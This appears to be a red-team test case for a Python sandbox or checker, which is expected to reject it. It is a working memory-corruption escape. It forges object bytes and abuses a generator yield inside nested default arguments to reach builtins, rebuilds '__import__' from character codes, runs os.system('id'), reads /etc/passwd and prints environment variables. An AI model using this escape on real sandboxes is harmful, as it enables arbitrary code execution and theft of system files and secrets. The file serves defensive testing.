# expect: reject memory
# line: 24
# why: round 101c (red team): a yield in a nested def's default runs in the enclosing def, which is a generator whose body must be judged
vl = []
KEEP = []


def q(v):
    return v.to_bytes(8, "little")


def g():
    return 0


FAKE = (q(0) + q(0) + q(1 << 40) + q(id(list)) + q(2) + q(id(g) + 16) + q(2)
        + q(0) + q(0) + q(0) + q(0) + q(0))[:89]


def gen():
    def first(x=(yield 1)):
        return x

    vl.clear()

    def second(x=(yield 2)):
        return x


G = gen()
START = next(G)


class V:
    __slots__ = ("a", "b", "c", "d", "e", "f", "h", "i")

    def __eq__(self, o):
        return False

    def __lt__(self, o):
        n = next(G, 0)
        return NotImplemented


class W:
    def __eq__(self, o):
        return False

    def __gt__(self, o):
        return o


vl.append(V())
w = W()
got = vl < [w]
KEEP.append(bytearray(FAKE))
bt = got[1]
imp = bt["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(bt["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
